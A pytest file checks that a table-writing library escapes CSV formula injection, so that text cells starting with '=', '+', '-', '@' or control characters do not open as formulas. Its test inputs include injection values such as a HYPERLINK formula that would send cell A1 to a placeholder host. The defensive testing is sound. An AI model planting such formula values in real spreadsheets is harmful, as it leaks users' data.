from __future__ import annotations

import csv
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ich.index.split import read_split, write_split
from ich.schema import LABELS
from ich.tables import (
    PROB_COLUMNS,
    UIDS,
    make_predictions,
    read_predictions,
    restore_texts,
    write_table,
    writing_csv,
)

NAMES = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'quoted", "a=1", "NA", ""),
    *('=HYPERLINK("http://x?"&A1)', "x\r=1", "x\n=1", 'say "a", b', "ünïcode"),
]


def write_and_read(table: pd.DataFrame, path: Path) -> pd.DataFrame:
    write_table(table, path)
    texts = [column for column in table if table[column].dtype == "str"]
    return restore_texts(pd.read_csv(path, dtype=dict.fromkeys(texts, "str"), keep_default_na=False))


def read_cells(path: Path) -> list[str]:
    """Reads a CSV as a spreadsheet would, which knows nothing of this library."""
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_no_text_is_a_formula_and_numbers_stay(tmp_path: Path) -> None:
    table = pd.DataFrame({"name": NAMES, "value": np.arange(len(NAMES)) - 5.5})
    read = write_and_read(table, tmp_path / "t.csv")
    pd.testing.assert_frame_equal(read, table)
    cells = read_cells(tmp_path / "t.csv")
    texts, numbers = cells[2::2], cells[3::2]
    assert not [text for text in texts if text.startswith(tuple("=+-@\t\r\n"))]
    assert numbers[0] == "-5.5"
    assert len(texts) == len(NAMES)


@settings(max_examples=50, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text("'=+-@\t\r\n\",a", max_size=6), min_size=1, max_size=8))
def test_every_text_comes_back(tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    read = write_and_read(pd.DataFrame({"name": pd.Series(names, dtype="str"), "n": 1}), path)
    assert read["name"].tolist() == names


@settings(max_examples=50, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text("'=+-@\t\r\n\",aü", max_size=6), min_size=1, max_size=8))
def test_texts_alone_are_written_as_beside_numbers(
    tmp_path_factory: pytest.TempPathFactory, names: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("csv")
    table = pd.DataFrame({"name": pd.Series(names, dtype="str")})
    with writing_csv(folder / "texts.csv") as write:
        write(table.iloc[:2])
        write(table.iloc[2:])
    write_table(table.assign(n=1), folder / "mixed.csv")
    cells = read_cells(folder / "mixed.csv")[::2]
    expected = io.StringIO()
    csv.writer(expected, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows([cell] for cell in cells)
    assert (folder / "texts.csv").read_bytes().decode() == expected.getvalue()


def test_rows_of_texts_follow_rows_with_gaps(tmp_path: Path) -> None:
    table = pd.DataFrame({"name": pd.Series(["a", None, "b", "c"], dtype="str")})
    with writing_csv(tmp_path / "t.csv") as write:
        write(table.iloc[:2])
        write(table.iloc[2:])
    assert (tmp_path / "t.csv").read_text() == '"name"\n"a"\n""\n"b"\n"c"\n'


def test_patients_with_odd_names_go_through_predictions_and_split(tmp_path: Path) -> None:
    table = pd.DataFrame({column: [f"{name}{column}" for name in NAMES] for column in UIDS}, dtype="str")
    table[list(LABELS)] = 0.0
    predictions = make_predictions(table, "test", np.full((len(table), len(PROB_COLUMNS)), 0.5))
    write_table(predictions, tmp_path / "predictions.csv")
    pd.testing.assert_frame_equal(read_predictions(tmp_path / "predictions.csv"), predictions)
    parts = pd.Series(["train", "val"] * (len(table) // 2), dtype="str", name="part")
    write_split(table, parts, tmp_path / "split.csv")
    pd.testing.assert_series_equal(read_split(tmp_path / "split.csv", table), parts)
